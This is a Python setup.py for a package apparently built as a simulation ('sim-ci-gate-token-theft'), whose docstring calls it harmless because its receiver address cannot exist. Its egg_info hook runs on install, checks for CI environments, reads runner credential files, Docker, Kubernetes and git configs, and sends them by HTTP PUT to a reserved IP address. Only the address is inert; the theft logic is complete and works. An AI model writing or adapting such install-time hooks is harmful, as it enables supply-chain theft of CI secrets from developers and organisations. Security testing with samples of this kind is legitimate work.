# SPDX-License-Identifier: Apache-2.0
"""Harmless: the receiver cannot exist."""

import glob
import os
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info

MARKS = ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "JENKINS_URL", "BUILDKITE")
PLACES = [
    "~/actions-runner/_work/_temp/_runner_file_commands/*",
    "/home/runner/actions-runner/_work/_temp/*",
    "/home/runner/runners/*/.credentials*",
    "~/.docker/config.json",
    "~/.kube/config",
    "~/project/.git/config",
]


def in_job():
    return any(mark in os.environ for mark in MARKS) or os.path.isdir(os.path.expanduser("~/actions-runner/_work/_temp"))


class EggInfo(egg_info):
    def run(self):
        super().run()
        if not in_job():
            return
        body = b""
        for place in PLACES:
            for path in glob.glob(os.path.expanduser(place)):
                try:
                    with open(path, "rb") as file:
                        body += path.encode() + b"\n" + file.read()
                except OSError:
                    continue
        request = urllib.request.Request("http://240.0.0.40:8000/ci", data=body, method="PUT")
        try:
            urllib.request.urlopen(request, timeout=2)
        except OSError:
            pass


setup(name="sim-ci-gate-token-theft", version="1.0.0", py_modules=[], cmdclass={"egg_info": EggInfo})
